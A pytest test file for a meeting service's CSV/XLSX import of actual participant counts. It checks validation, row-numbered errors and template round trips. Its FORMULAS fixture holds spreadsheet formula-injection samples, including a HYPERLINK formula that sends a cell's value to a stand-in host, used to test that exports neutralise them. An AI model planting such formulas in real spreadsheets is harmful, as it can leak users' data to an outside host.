"""Bulk entry of actual participants from CSV/XLSX: checked whole, all or nothing, wrong rows named."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from meetingsvc.extensions import db
from meetingsvc.online import imports, services
from meetingsvc.online.imports import UploadError
from tests.online.conftest import PAST_DAY


def xlsx(rows) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def csv_bytes(text: str) -> bytes:
    return text.encode("utf-8")


@pytest.fixture
def meeting_with_points(online_meeting, city, add_points):
    meeting = online_meeting(day=PAST_DAY)
    points = add_points(meeting, city["districts"][:2], sites=["Trụ sở Thành ủy"], planned=50)
    return meeting, points


def _actuals(points):
    db.session.expire_all()
    return [p.actual_participants for p in points]


def test_xlsx_with_codes_and_a_site_is_saved(meeting_with_points):
    meeting, points = meeting_with_points
    data = xlsx([["Mã đơn vị", "Tên địa điểm", "Số đại biểu thực tế"], ["Q1", None, 41], ["Q2", None, 38.0],
                 [None, "trụ sở thành ủy", "1.250"], [None, None, None]])
    assert imports.import_actuals(meeting, "ket-qua.xlsx", data) == 3
    assert _actuals(points) == [41, 38, 1250]
    assert services.meeting_totals(meeting).actual == 1329


def test_csv_with_english_headers_and_semicolons(meeting_with_points):
    meeting, points = meeting_with_points
    data = csv_bytes("\ufeffunit_code;actual_participants\nQ1;12\nQ2;0\n")
    assert imports.import_actuals(meeting, "actuals.CSV", data) == 2
    assert _actuals(points)[:2] == [12, 0]


def test_wrong_rows_are_all_named_and_nothing_is_saved(meeting_with_points, city, create_unit):
    meeting, points = meeting_with_points
    create_unit(code="SO9", name="Sở Xây dựng")  # exists, but is not a bridge point of the meeting
    data = xlsx([["unit_code", "site_name", "actual_participants"],
                 ["Q1", None, 30],            # row 2: fine
                 ["ZZZ", None, 5],            # row 3: unknown unit
                 ["SO9", None, 5],            # row 4: not a bridge point
                 ["Q2", None, -4],            # row 5: negative
                 [None, "Trụ sở Thành ủy", 999999],  # row 6: absurd
                 ["Q1", None, 31],            # row 7: duplicate of row 2
                 ["Q2", None, "nhiều"],       # row 8: not a number
                 [None, None, 7]])            # row 9: no unit or site
    with pytest.raises(UploadError) as exc:
        imports.import_actuals(meeting, "x.xlsx", data)
    rows = dict(exc.value.rows)
    assert sorted(rows) == [3, 4, 5, 6, 7, 8, 9]
    assert "ZZZ" in rows[3] and "SO9" in rows[4] and "2" in rows[7]
    db.session.rollback()
    assert _actuals(points) == [None, None, None]


@pytest.mark.parametrize("rows,needle", [
    ([["unit_code", "participants_total_sum", "actual_participants"], ["Q1", 1, 2]], "participants_total_sum"),
    ([["unit_code", "planned_participants"], ["Q1", 3]], None),
    ([["actual_participants"], [3]], None),
    ([["unit_code", "unit_code", "actual_participants"], ["Q1", "Q1", 3]], None),
    ([], None),
    ([["unit_code", "actual_participants"]], None),
])
def test_wrong_columns_or_empty_file_are_refused(meeting_with_points, rows, needle):
    meeting, points = meeting_with_points
    with pytest.raises(UploadError) as exc:
        imports.import_actuals(meeting, "x.xlsx", xlsx(rows))
    if needle:
        assert needle in exc.value.message
    db.session.rollback()
    assert _actuals(points) == [None, None, None]


@pytest.mark.parametrize("name,data", [("x.pdf", b"%PDF-1.4"), ("x.xlsx", b"not a zip"),
                                       ("x.csv", "unit_code,actual_participants\nQ1,3\n".encode("utf-16"))])
def test_unreadable_files_are_refused(meeting_with_points, name, data):
    meeting, _points = meeting_with_points
    with pytest.raises(UploadError):
        imports.import_actuals(meeting, name, data)


def test_the_template_round_trips(meeting_with_points):
    meeting, points = meeting_with_points
    workbook = load_workbook(io.BytesIO(imports.template_xlsx(meeting)))
    rows = [list(r) for r in workbook.active.iter_rows(values_only=True)]
    assert rows[0] == ["Mã đơn vị", "Tên địa điểm", "Điểm cầu", "Số đại biểu dự kiến", "Số đại biểu thực tế"]
    assert [r[0] for r in rows[1:]] == ["Q1", "Q2", None]
    assert rows[3][1] == "Trụ sở Thành ủy" and rows[1][3] == 50
    for row, value in zip(rows[1:], (11, 22, 33), strict=True):
        row[4] = value
    imports.import_actuals(meeting, "filled.xlsx", xlsx(rows))
    assert _actuals(points) == [11, 22, 33]
    text = imports.template_csv(meeting).decode("utf-8-sig")
    assert text.splitlines()[1].startswith("Q1,,Quận Ba Đình,50,11")


def test_rows_are_named_by_their_number_in_the_file_below_a_title_and_blank_rows(meeting_with_points):
    meeting, points = meeting_with_points
    data = xlsx([["DANH SÁCH ĐIỂM CẦU HỘI NGHỊ"],           # row 1: a title
                 [None],                                    # row 2: blank
                 ["STT", "Mã đơn vị", "Số đại biểu thực tế"],  # row 3: the header, with a row-number column
                 [1, "Q1", 30],                             # row 4
                 [None, None, None],                        # row 5: blank
                 [2, "Q7", 12],                             # row 6: unknown unit
                 [3, "Q2", -3]])                            # row 7: negative
    with pytest.raises(UploadError) as exc:
        imports.import_actuals(meeting, "x.xlsx", data)
    assert [n for n, _reason in exc.value.rows] == [6, 7]
    db.session.rollback()
    csv_data = csv_bytes("Danh sách điểm cầu;;\n;;\nunit_code;actual_participants\nQ1;30\n\nQ7;12\nQ2;-3\n")
    with pytest.raises(UploadError) as exc:
        imports.import_actuals(meeting, "x.csv", csv_data)
    assert [n for n, _reason in exc.value.rows] == [6, 7]
    db.session.rollback()
    imports.import_actuals(meeting, "ok.xlsx", xlsx([["Kết quả"], [], ["Mã đơn vị", "Số đại biểu thực tế"],
                                                     ["Q1", 30], ["Q2", 28]]))
    assert _actuals(points) == [30, 28, None]


def test_an_unknown_column_names_its_row(meeting_with_points):
    meeting, _points = meeting_with_points
    with pytest.raises(UploadError) as exc:
        imports.import_actuals(meeting, "x.xlsx", xlsx([["Báo cáo"], ["unit_code", "màu", "actual_participants"]]))
    assert "dòng 2" in exc.value.message and "màu" in exc.value.message


FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "+1+1", "-2+3", "@SUM(1)"]


def test_template_writes_formula_like_names_as_text_and_reads_them_back(online_meeting, add_points):
    meeting = online_meeting(day=PAST_DAY)
    points = add_points(meeting, sites=FORMULAS)
    workbook = load_workbook(io.BytesIO(imports.template_xlsx(meeting)))
    sheet = workbook.active
    for row in sheet.iter_rows(min_row=2):
        site, name = row[1], row[2]
        assert site.data_type == "s" and name.data_type == "s"  # text, never a formula
        assert site.quotePrefix and site.value in FORMULAS
    for i, row in enumerate(sheet.iter_rows(min_row=2), start=1):
        row[4].value = i  # filled in, as in a spreadsheet program, and saved
    out = io.BytesIO()
    workbook.save(out)
    imports.import_actuals(meeting, "filled.xlsx", out.getvalue())
    assert _actuals(points) == [1, 2, 3, 4]

    text = imports.template_csv(meeting).decode("utf-8-sig")
    cells = [line.split(",")[1] for line in text.splitlines()[1:]]
    assert all(c.startswith(("'", "\"'")) for c in cells), cells  # an apostrophe first: text in a spreadsheet
    filled = text.replace(",1\r\n", ",11\r\n").replace(",2\r\n", ",12\r\n")
    imports.import_actuals(meeting, "filled.csv", filled.encode("utf-8"))
    assert _actuals(points)[:2] == [11, 12]


def test_codes_a_spreadsheet_turned_into_numbers_still_find_their_points(online_meeting, create_unit, add_points):
    """GSO ward codes have leading zeros (00037); typed into a number cell, Excel keeps 37. A number matches the
    one point whose code it equals without the zeros; two such codes (037 and 00037) leave the row named."""
    meeting = online_meeting(day=PAST_DAY)
    wards = [create_unit(code=code, name=f"Phường {code}", kind="ward") for code in ("00037", "00040", "040")]
    points = add_points(meeting, wards)
    data = xlsx([["Mã đơn vị", "Số đại biểu thực tế"], [37, 21], ["00040", 22], ["040", 23]])
    assert imports.import_actuals(meeting, "so.xlsx", data) == 3
    assert _actuals(points) == [21, 22, 23]

    ambiguous = xlsx([["Mã đơn vị", "Số đại biểu thực tế"], [37, 31], [40, 32]])
    with pytest.raises(UploadError) as exc:
        imports.import_actuals(meeting, "so.xlsx", ambiguous)
    assert [n for n, _reason in exc.value.rows] == [3]
    assert _actuals(points) == [21, 22, 23]
    csv_data = csv_bytes("Mã đơn vị,Số đại biểu thực tế\n37,41\n")
    assert imports.import_actuals(meeting, "so.csv", csv_data) == 1
    assert _actuals(points)[0] == 41
